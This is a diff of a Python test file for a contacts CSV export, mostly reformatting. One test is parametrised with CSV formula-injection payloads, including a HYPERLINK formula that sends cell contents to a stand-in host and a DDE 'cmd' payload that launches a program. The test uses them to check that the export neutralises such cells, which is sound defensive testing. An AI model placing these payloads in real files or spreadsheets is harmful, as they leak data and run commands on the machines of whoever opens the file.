@@ -296,15 +296,21 @@ def test_export_streams_every_contact_with_attributes(org):
     rows = list(csv.reader(io.StringIO("".join(contacts.contacts_export_lines(organization=org)))))
     assert rows[0] == contacts.EXPORT_COLUMNS + ["plan"]
     assert (
-        rows[1][1:7] == ["Ada", "", "'+14155550100", "", "vip", "granted"]
-        and rows[1][-1] == "pro"
+        rows[1][1:7] == ["Ada", "", "'+14155550100", "", "vip", "granted"] and rows[1][-1] == "pro"
     )
     assert rows[2][2] == "grace@example.com" and len(rows) == 3
 
 
 @pytest.mark.parametrize(
     "evil",
-    ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\r=1"],
+    [
+        '=HYPERLINK("http://x.example/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTAB",
+        "\r=1",
+    ],
 )
 def test_export_neutralises_formula_cells(org, evil):
     contacts.contact_create(
